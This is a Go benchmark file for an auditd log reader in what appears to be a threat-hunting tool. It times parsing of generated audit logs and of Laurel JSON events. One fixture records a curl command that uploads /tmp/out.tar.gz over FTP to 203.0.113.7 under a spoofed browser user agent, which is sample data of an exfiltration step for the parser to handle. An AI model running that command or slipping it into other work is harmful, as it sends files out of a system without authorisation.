package auditd

import (
	"bytes"
	"context"
	"encoding/json"
	"testing"

	"github.com/sluice-hunt/sluice/event"
	"github.com/sluice-hunt/sluice/source"
)

type countHost struct {
	event.NopSink
	n int
}

func (c *countHost) Host(*event.Host) { c.n++ }

func benchRead(b *testing.B, data []byte, want int) {
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	events := 0
	for i := 0; i < b.N; i++ {
		var sink countHost
		st := source.NewStats()
		err := Read(context.Background(), bytes.NewReader(data), source.FileInfo{Name: "audit.log"}, st, func(j source.Job) error {
			j.Run(&sink, st)
			return nil
		})
		if err != nil {
			b.Fatal(err)
		}
		if sink.n != want {
			b.Fatalf("%d events, want %d (problems %v)", sink.n, want, problems(st))
		}
		events += sink.n
	}
	b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
}

// BenchmarkRaw reads a generated audit.log of 100,000 events (70,000 of them execve and
// connect events to map; see genLog) into a sink that does nothing: the reader's own cost.
func BenchmarkRaw(b *testing.B) {
	data, want := genLog(100000)
	benchRead(b, data, want)
}

// BenchmarkLaurel reads the same kind of events as Laurel writes them, one object an event.
func BenchmarkLaurel(b *testing.B) {
	var buf bytes.Buffer
	line, err := json.Marshal(map[string]any{
		"ID": "1700000000.123:1001", "NODE": "srv01",
		"SYSCALL": map[string]any{"arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "items": 2, "ppid": 2000,
			"pid": 2001, "auid": 1000, "uid": 0, "gid": 0, "euid": 0, "suid": 0, "fsuid": 0, "egid": 0, "sgid": 0, "fsgid": 0,
			"tty": "pts0", "ses": 3, "comm": "curl", "exe": "/usr/bin/curl", "key": nil, "ARGV": []string{"0x55d0c8a3e2a0", "0x7ffd2a1b3c40", "0x10", "0x0"}},
		"EXECVE": map[string]any{"argc": 7, "ARGV": []string{"curl", "-s", "-A", "Mozilla/5.0 (X11; Linux x86_64)", "-T", "/tmp/out.tar.gz", "ftp://203.0.113.7/"}},
		"CWD":    map[string]any{"cwd": "/home/alice"},
		"PATH": []map[string]any{{"item": 0, "name": "/usr/bin/curl", "inode": 401923, "dev": "fd:01", "mode": "0o100755", "nametype": "NORMAL"},
			{"item": 1, "name": "/lib64/ld-linux-x86-64.so.2", "inode": 404797, "dev": "fd:01", "mode": "0o100755", "nametype": "NORMAL"}},
		"PROCTITLE": map[string]any{"ARGV": []string{"curl", "-s", "-A", "Mozilla/5.0 (X11; Linux x86_64)", "-T", "/tmp/out.tar.gz", "ftp://203.0.113.7/"}},
	})
	if err != nil {
		b.Fatal(err)
	}
	conn := []byte(`{"ID":"1700000000.130:1002","NODE":"srv01","SYSCALL":{"arch":"0xc000003e","syscall":42,"success":"no","exit":-115,"items":0,"ppid":2000,"pid":2001,"auid":1000,"uid":0,"comm":"curl","exe":"/usr/bin/curl","key":null},"SOCKADDR":[{"saddr":"%02%00%00P%cb%00q%07%00%00%00%00%00%00%00%00"}],"PROCTITLE":{"ARGV":["curl","-s","https://example.com/"]}}`)
	want := 0
	for want < 100000 {
		buf.Write(line)
		buf.WriteByte('\n')
		buf.Write(conn)
		buf.WriteByte('\n')
		want += 2
	}
	benchRead(b, buf.Bytes(), want)
}
